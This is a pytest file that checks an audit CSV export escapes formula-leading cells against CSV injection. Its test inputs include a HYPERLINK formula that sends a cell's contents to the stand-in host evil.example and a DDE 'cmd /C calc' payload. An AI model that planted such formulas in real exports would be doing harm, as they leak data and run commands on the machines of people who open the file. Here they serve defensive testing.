"""The audit CSV export never hands a spreadsheet a formula (OWASP "CSV Injection")."""

import csv
import io

import pytest

from services.audit.rows import COLUMNS, audit_csv, csv_cell

ROW = {
    "recorded_at": "2026-03-02T09:00:00+00:00",
    "child_ref": "cr1_" + "a" * 32,
    "subject_event_id": "e-1",
    "subject_event_type": "AttendanceMarked",
    "recipient": "la-education",
    "decision": "deny",
    "fields": ["event_id"],
    "reason": "no-agreement",
    "partition": 0,
    "offset": 7,
}


def cells(text: str) -> list[dict[str, str]]:
    """The CSV read back as a spreadsheet would see each cell."""
    return list(csv.DictReader(io.StringIO(text)))


class TestAuditCsv:
    @pytest.mark.parametrize(
        "hostile",
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_a_formula_leading_value_gets_a_leading_quote(self, hostile):
        """A cell opening with = + - @ tab or CR is written with a leading single quote."""
        text = audit_csv([{**ROW, "reason": hostile, "detail": hostile}])
        (row,) = cells(text)
        assert row["reason"] == "'" + hostile

    def test_every_column_is_neutralised(self):
        """Whatever column a hostile value arrives in, it is quoted."""
        hostile = {name: "=1+1" for name in COLUMNS if name != "fields"}
        (row,) = cells(audit_csv([{**ROW, **hostile}]))
        assert {row[name] for name in hostile} == {"'=1+1"}

    def test_ordinary_values_are_unchanged(self):
        """Values that open with anything else are written as they are."""
        (row,) = cells(audit_csv([ROW]))
        assert (row["reason"], row["child_ref"], row["offset"]) == (
            "no-agreement",
            ROW["child_ref"],
            "7",
        )
        assert row["fields"] == '["event_id"]'

    def test_numbers_are_not_text(self):
        """Only text is quoted: an int cell is written as the number it is."""
        assert (csv_cell(-1), csv_cell("-1")) == (-1, "'-1")
